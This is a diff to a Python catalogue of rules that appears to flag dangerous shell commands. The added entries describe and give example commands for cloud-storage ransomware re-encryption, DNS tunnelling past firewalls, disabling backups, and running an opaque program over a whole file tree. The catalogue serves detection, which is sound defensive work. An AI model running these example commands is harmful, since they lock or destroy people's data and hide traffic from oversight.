@@ -759,6 +759,29 @@ CATALOGUE: dict[str, Rule] = _rules(
         " a MongoDB root role, a Redis user allowed every command): like adding an administrator",
         "psql -c \"CREATE ROLE ops LOGIN SUPERUSER PASSWORD 'x'\"",
     ),
+    (
+        "cloud-reencrypt",
+        "copies cloud objects onto themselves (or rewrites them) under a customer-supplied key:"
+        " without that key nobody can read them again (cloud-storage ransomware)",
+        "aws s3 cp s3://b s3://b --recursive --sse-c AES256 --sse-c-key fileb://k.bin",
+    ),
+    (
+        "tunnel",
+        "tunnels traffic through DNS queries (a covert channel past firewalls)",
+        "iodine -f -P secret 203.0.113.9 t.example.net",
+    ),
+    (
+        "backup-off",
+        "turns off the service or timer that takes backups or shadow copies (no new copy is"
+        " kept: the step before ransomware encrypts)",
+        "systemctl disable --now borgmatic.timer",
+    ),
+    (
+        "opaque-exec",
+        "runs a program kept in shared memory, or hands every file of a tree to a program from"
+        " a temporary folder (a dropper's or an encryptor's shape)",
+        "find /srv -type f -exec /tmp/.x {} +",
+    ),
     # --- safety-cli8: long-tail CLIs from their reference documentation (clis.py) -----------
     (
         "cli-backup-delete",
